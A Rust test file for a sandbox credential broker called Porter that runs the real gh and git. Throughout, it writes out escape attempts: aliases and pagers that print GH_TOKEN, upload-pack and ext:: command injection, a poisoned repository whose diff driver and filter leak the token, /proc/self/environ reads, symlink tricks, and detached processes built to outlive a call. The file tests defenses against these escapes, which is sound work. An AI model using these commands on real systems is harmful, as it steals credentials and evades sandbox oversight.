//! The escapes an attacker in the sandbox tried against env mode (the credential in the
//! CLI's environment), with the real `gh` (Debian's 2.23) and the real `git`: aliases,
//! extensions, flags before and between command words, git diff drivers, clean filters
//! and textconv from a workspace repository, `clone -u<cmd>`, `--upload-pac=<cmd>`,
//! state left by one call for the next, and descendants outliving their call.
//!
//! Each escape is first shown to work without Porter (the control), so the detector is
//! known to catch it; then through Porter it must be refused and the canary must not
//! appear in any form (raw, base64, hex, reversed, split) in any frame or log line.

mod support;

use std::{
    collections::BTreeMap,
    path::{Path, PathBuf},
    process::Command,
    time::Duration,
};

use porter_protocol::{
    ErrorCode, Frame,
    registry::{CliEntry, Profile},
};
use support::*;

/// Fails with the reason when a Debian package the test needs is missing.
fn require(binary: &str, package: &str) -> PathBuf {
    let path = PathBuf::from(binary);
    assert!(
        path.exists(),
        "{binary} is missing: apt-get install -y {package} (test.sh installs it)"
    );
    path
}

fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let block = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let value = u32::from_be_bytes([0, block[0], block[1], block[2]]);
        for index in 0..4 {
            if index <= chunk.len() {
                out.push(ALPHABET[(value >> (18 - 6 * index) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// Every form of the canary the escapes print: whole, base64 (with and without a
/// newline, at each of the three alignments), hex, reversed, and any 8-byte piece
/// (a split).
fn leaks(text: &str) -> Option<String> {
    let canary = CANARY.as_bytes();
    let mut forms = vec![
        CANARY.to_owned(),
        CANARY.chars().rev().collect(),
        hex::encode(canary),
        hex::encode_upper(canary),
    ];
    for prefix in ["", "a", "ab"] {
        for suffix in ["", "\n"] {
            let encoded = base64(format!("{prefix}{CANARY}{suffix}").as_bytes());
            // The characters that depend on the canary alone.
            forms.push(encoded[prefix.len() * 2..encoded.len() - 4].to_owned());
        }
    }
    forms.extend(
        canary
            .windows(8)
            .map(|window| String::from_utf8_lossy(window).into_owned()),
    );
    forms.into_iter().find(|form| text.contains(form.as_str()))
}

fn assert_no_leak(what: &str, text: &str) {
    if let Some(form) = leaks(text) {
        panic!("{what}: the canary leaked as {form:?} in {text:?}");
    }
}

/// All frames of a call as text (headers included) for the leak check.
fn frames_text(frames: &[Frame]) -> String {
    frames
        .iter()
        .map(|frame| String::from_utf8_lossy(&frame.to_bytes().unwrap()).into_owned())
        .collect()
}

fn env_mode(bin: &str, profile: Profile) -> CliEntry {
    let mut entry = cli(bin);
    entry.profile = Some(profile);
    entry.env = BTreeMap::from([
        ("GH_TOKEN".into(), CANARY.into()),
        ("GH_PROMPT_DISABLED".into(), "1".into()),
        ("GIT_TERMINAL_PROMPT".into(), "0".into()),
    ]);
    entry
}

fn start() -> Daemon {
    let gh = require("/usr/bin/gh", "gh");
    let git = require("/usr/bin/git", "git");
    Daemon::start(|bin, registry| {
        registry
            .clis
            .insert("gh".into(), env_mode(&gh.to_string_lossy(), Profile::Gh));
        registry
            .clis
            .insert("git".into(), env_mode(&git.to_string_lossy(), Profile::Git));
        // Porter's own HOME holds a gh login a call must never see.
        let porter_home = bin.parent().unwrap();
        std::fs::create_dir_all(porter_home.join(".config/gh")).unwrap();
        std::fs::write(
            porter_home.join(".config/gh/hosts.yml"),
            format!("github.com:\n    oauth_token: {CANARY}\n"),
        )
        .unwrap();
        let home_probe = script(
            bin,
            "home-probe",
            r#"printf 'home=%s\n' "$HOME"; ls -A "$HOME"; cat "$HOME/.config/gh/hosts.yml" 2>/dev/null
mkdir -p "$HOME/.config/gh" && printf 'aliases:\n    x: "!printenv GH_TOKEN"\n' > "$HOME/.config/gh/config.yml""#,
        );
        registry.clis.insert("home-probe".into(), cli(&home_probe));
    })
}

/// Runs a real CLI directly, as Porter's child would run it without the checks.
fn run_directly(program: &Path, arguments: &[&str], cwd: &Path, home: &Path) -> String {
    let output = Command::new(program)
        .args(arguments)
        .current_dir(cwd)
        .env_clear()
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .env("HOME", home)
        .env("GH_TOKEN", CANARY)
        .env("GH_PROMPT_DISABLED", "1")
        .output()
        .unwrap();
    format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    )
}

fn call_in(daemon: &Daemon, cli: &str, arguments: &[&str], cwd: &str) -> Vec<Frame> {
    let mut call = request(cli, arguments, TOKEN);
    call.cwd = cwd.into();
    daemon.call(call)
}

#[test]
fn gh_aliases_extensions_and_flag_placement_never_yield_the_token() {
    let daemon = start();
    let gh = Path::new("/usr/bin/gh");
    // Control: the alias escape works against the real gh when nothing stops it.
    let home = tempfile::tempdir().unwrap();
    run_directly(
        gh,
        &["alias", "set", "x", r#"!printf %s "$GH_TOKEN" | base64"#],
        home.path(),
        home.path(),
    );
    let leaked = run_directly(gh, &["x"], home.path(), home.path());
    assert!(
        leaks(&leaked).is_some(),
        "control: the alias escape should print the encoded token: {leaked}"
    );

    std::fs::write(daemon.workspace.join("gh-ext.sh"), "printenv GH_TOKEN\n").unwrap();
    for arguments in [
        vec!["alias", "set", "x", r#"!printf %s "$GH_TOKEN" | base64"#],
        vec!["alias", "set", "tok", "auth token"],
        vec!["alias", "set", "ei", "extension install"],
        vec!["alias", "import", "-"],
        vec!["x"],
        vec!["tok"],
        vec!["ei", "."],
        vec!["extension", "install", "."],
        vec!["ext", "install", "."],
        vec!["auth", "token"],
        vec!["auth", "--hostname", "github.com", "token"],
        vec!["--hostname", "x", "auth", "token"],
        vec!["auth", "-h", "x", "token"],
        vec!["auth", "status", "--show-token"],
        vec!["auth", "status", "-th", "github.com"],
        vec!["config", "set", "pager", "sh -c 'printenv GH_TOKEN'"],
        vec!["api", "user", "--hostname", "evil.example"],
        vec!["api", "user", "-H", "AUTHORIZATION: token x"],
        vec![
            "repo",
            "clone",
            "o/r",
            "--",
            "-u",
            "sh -c 'printenv GH_TOKEN >&2'",
        ],
    ] {
        let frames = call_in(&daemon, "gh", &arguments, "/workspace");
        assert_eq!(
            error_of(&frames),
            Some(ErrorCode::DeniedArgs),
            "gh {arguments:?}: {frames:?}"
        );
        assert_no_leak(&format!("gh {arguments:?}"), &frames_text(&frames));
    }
    // Files named for gh to read must not lead out of the workspace through a symlink.
    let outside = tempfile::tempdir().unwrap();
    let secret_file = outside.path().join("token");
    std::fs::write(&secret_file, CANARY).unwrap();
    std::os::unix::fs::symlink(&secret_file, daemon.workspace.join("notes.md")).unwrap();
    for arguments in [
        vec!["issue", "create", "-t", "x", "--body-file", "notes.md"],
        vec!["pr", "comment", "1", "-Fnotes.md"],
        vec!["api", "repos/o/r/issues", "-F", "body=@notes.md"],
        vec!["api", "graphql", "--input=notes.md"],
    ] {
        let frames = call_in(&daemon, "gh", &arguments, "/workspace");
        assert_eq!(
            error_of(&frames),
            Some(ErrorCode::DeniedArgs),
            "gh {arguments:?}: {frames:?}"
        );
        assert_no_leak(&format!("gh {arguments:?}"), &frames_text(&frames));
    }
    // The allowed path still runs the real gh.
    let frames = call_in(&daemon, "gh", &["--version"], "/workspace");
    assert_eq!(frames.last(), Some(&Frame::Exit { code: 0 }), "{frames:?}");
    assert!(stdout_of(&frames).contains("gh version 2."));
    daemon.wait_audit(24);
    assert_no_leak("audit log", &daemon.raw_log_text());
}

/// A workspace repository whose config runs `leak` (prints the token base64-encoded)
/// as a diff driver, textconv and clean filter for every file.
fn poisoned_repository(workspace: &Path) -> PathBuf {
    let repo = workspace.join("poisoned");
    let git = |arguments: &[&str]| {
        let status = Command::new("/usr/bin/git")
            .args(arguments)
            .current_dir(&repo)
            .env_clear()
            .env("PATH", "/usr/bin:/bin")
            .env("HOME", workspace)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .status()
            .unwrap();
        assert!(status.success(), "git {arguments:?}");
    };
    std::fs::create_dir_all(&repo).unwrap();
    git(&["init", "-q"]);
    git(&["config", "user.email", "a@b.c"]);
    git(&["config", "user.name", "a"]);
    std::fs::write(repo.join("file.txt"), "one\n").unwrap();
    git(&["add", "file.txt"]);
    git(&["commit", "-qm", "one"]);
    std::fs::write(repo.join("file.txt"), "two\n").unwrap();
    let leak = repo.join("leak.sh");
    std::fs::write(&leak, "#!/bin/sh\nprintf %s \"$GH_TOKEN\" | base64\n").unwrap();
    let mut permissions = std::fs::metadata(&leak).unwrap().permissions();
    std::os::unix::fs::PermissionsExt::set_mode(&mut permissions, 0o755);
    std::fs::set_permissions(&leak, permissions).unwrap();
    std::fs::write(repo.join(".gitattributes"), "* diff=leak filter=leak\n").unwrap();
    let config = repo.join(".git/config");
    let mut text = std::fs::read_to_string(&config).unwrap();
    text.push_str(&format!(
        "[diff \"leak\"]\n\ttextconv = {0}\n\tcommand = {0}\n[filter \"leak\"]\n\tclean = {0}\n",
        leak.display()
    ));
    std::fs::write(&config, text).unwrap();
    repo
}

#[test]
fn git_drivers_filters_and_command_options_never_yield_the_token() {
    let daemon = start();
    let repo = poisoned_repository(&daemon.workspace);
    // Control: Debian's git runs the workspace's textconv and prints the token.
    let leaked = run_directly(
        Path::new("/usr/bin/git"),
        &["-c", "core.pager=cat", "diff"],
        &repo,
        &repo,
    );
    assert!(
        leaks(&leaked).is_some(),
        "control: the textconv escape should print the encoded token: {leaked}"
    );

    let mut refusals = 0;
    for arguments in [
        vec!["diff"],
        vec!["add", "file.txt"],
        vec!["log", "-p"],
        vec!["show", "HEAD"],
        vec!["status"],
    ] {
        for cwd in ["/workspace/poisoned", "/workspace/poisoned/.git"] {
            let frames = call_in(&daemon, "git", &arguments, cwd);
            assert_eq!(
                error_of(&frames),
                Some(ErrorCode::BadCwd),
                "git {arguments:?} in {cwd}: {frames:?}"
            );
            assert_no_leak(&format!("git {arguments:?}"), &frames_text(&frames));
            refusals += 1;
        }
    }
    let command = "sh -c 'printf %s \"$GH_TOKEN\" | base64 >&2' #".to_owned();
    for arguments in [
        vec![
            "clone".to_owned(),
            format!("-u{command}"),
            "/workspace/poisoned".into(),
            "x".into(),
        ],
        vec![
            "clone".to_owned(),
            "-u".into(),
            command.clone(),
            "https://example.invalid/r".into(),
        ],
        vec![
            "clone".to_owned(),
            format!("--upload-pac={command}"),
            "https://example.invalid/r".into(),
        ],
        vec![
            "fetch".to_owned(),
            format!("--upload-pack={command}"),
            "origin".into(),
        ],
        vec![
            "ls-remote".to_owned(),
            format!("--upload-pack={command}"),
            "origin".into(),
        ],
        vec![
            "clone".to_owned(),
            "ext::sh -c 'printenv GH_TOKEN >&2'".into(),
            "x".into(),
        ],
        vec![
            "-c".to_owned(),
            format!("core.pager={command}"),
            "log".into(),
        ],
        vec!["--config-env=core.pager=GH_TOKEN".to_owned(), "log".into()],
        vec!["-C".to_owned(), "/".into(), "status".into()],
        vec![
            "diff".to_owned(),
            "--no-index".into(),
            "/proc/self/environ".into(),
            "x".into(),
        ],
        vec![
            "config".to_owned(),
            "--global".into(),
            "alias.x".into(),
            "!printenv".into(),
        ],
        vec!["credential".to_owned(), "fill".into()],
    ] {
        let arguments: Vec<&str> = arguments.iter().map(String::as_str).collect();
        let frames = call_in(&daemon, "git", &arguments, "/workspace");
        assert_eq!(
            error_of(&frames),
            Some(ErrorCode::DeniedArgs),
            "git {arguments:?}: {frames:?}"
        );
        assert_no_leak(&format!("git {arguments:?}"), &frames_text(&frames));
        refusals += 1;
    }
    // Allowed git still works in a clean repository of the workspace.
    let clean = daemon.workspace.join("clean");
    std::fs::create_dir_all(&clean).unwrap();
    let frames = call_in(&daemon, "git", &["init", "-q"], "/workspace/clean");
    assert_eq!(frames.last(), Some(&Frame::Exit { code: 0 }), "{frames:?}");
    let frames = call_in(&daemon, "git", &["status", "--short"], "/workspace/clean");
    assert_eq!(frames.last(), Some(&Frame::Exit { code: 0 }), "{frames:?}");
    daemon.wait_audit(refusals + 2);
    assert_no_leak("audit log", &daemon.raw_log_text());
}

#[test]
fn nothing_one_call_writes_to_its_home_reaches_the_next_and_porters_home_stays_hidden() {
    let daemon = start();
    let mut homes = Vec::new();
    for _ in 0..2 {
        let frames = call_in(&daemon, "home-probe", &[], "/workspace");
        assert_eq!(frames.last(), Some(&Frame::Exit { code: 0 }), "{frames:?}");
        let out = stdout_of(&frames);
        let mut lines = out.lines();
        let home = lines
            .next()
            .unwrap()
            .strip_prefix("home=")
            .unwrap()
            .to_owned();
        // Empty: no config written by the previous call, no hosts.yml from Porter.
        assert_eq!(lines.collect::<Vec<_>>(), Vec::<&str>::new(), "{out}");
        assert_no_leak("home probe", &out);
        homes.push(home);
    }
    assert_ne!(homes[0], homes[1]);
    daemon.wait_audit(2);
    for home in &homes {
        assert!(!Path::new(home).exists(), "{home} was left behind");
    }
    // The real gh sees no alias from an earlier call either.
    let frames = call_in(&daemon, "gh", &["x"], "/workspace");
    assert_eq!(error_of(&frames), Some(ErrorCode::DeniedArgs));
}

#[test]
fn setsid_and_double_forked_descendants_die_with_their_call() {
    let id = std::process::id();
    let daemon = Daemon::start(|bin, registry| {
        let body = format!(
            "setsid sh -c 'sleep 3101.{id}' </dev/null >/dev/null 2>&1 &
(sh -c 'sleep 3102.{id} </dev/null >/dev/null 2>&1 &' &)
nohup setsid sleep 3103.{id} </dev/null >/dev/null 2>&1 &
echo started"
        );
        registry
            .clis
            .insert("escaper".into(), cli(&script(bin, "escaper", &body)));
        let mut slow = cli(&script(
            bin,
            "slow-escaper",
            &format!(
                "setsid sh -c 'trap \"\" TERM; sleep 3104.{id}' </dev/null >/dev/null 2>&1 & exec sleep 3105.{id}"
            ),
        ));
        slow.timeout_seconds = 1;
        registry.clis.insert("slow-escaper".into(), slow);
    });
    // The CLI exits at once; its detached descendants must not survive the call.
    let frames = daemon.call(request("escaper", &[], TOKEN));
    assert_eq!(stdout_of(&frames), "started\n");
    assert_eq!(frames.last(), Some(&Frame::Exit { code: 0 }));
    assert_eq!(
        wait_gone(&format!(".{id}"), Duration::from_secs(5)),
        Vec::<u32>::new(),
        "descendants survived their call"
    );
    // A timeout ends the setsid one too, even though it ignores SIGTERM.
    let frames = daemon.call(request("slow-escaper", &[], TOKEN));
    assert_eq!(error_of(&frames), Some(ErrorCode::TimedOut));
    assert_eq!(
        wait_gone(&format!(".{id}"), Duration::from_secs(5)),
        Vec::<u32>::new(),
        "descendants survived the timeout"
    );
    // A caller that disconnects takes them all down as well.
    let stream = {
        let mut call = request("slow-escaper", &[], TOKEN);
        call.stdin = false;
        let mut stream = daemon.connect();
        porter_protocol::sync_io::write_frame(
            &mut stream,
            &Frame::Hello {
                version: porter_protocol::PROTOCOL_VERSION,
            },
        )
        .unwrap();
        porter_protocol::sync_io::write_frame(
            &mut stream,
            &Frame::Request(porter_protocol::Request::Cli(call)),
        )
        .unwrap();
        stream
    };
    let started = std::time::Instant::now();
    while processes_with(&format!("sleep 3104.{id}")).is_empty() {
        assert!(started.elapsed() < Duration::from_secs(10), "never started");
        std::thread::sleep(Duration::from_millis(20));
    }
    drop(stream);
    assert_eq!(
        wait_gone(&format!(".{id}"), Duration::from_secs(5)),
        Vec::<u32>::new(),
        "descendants survived the disconnect"
    );
}
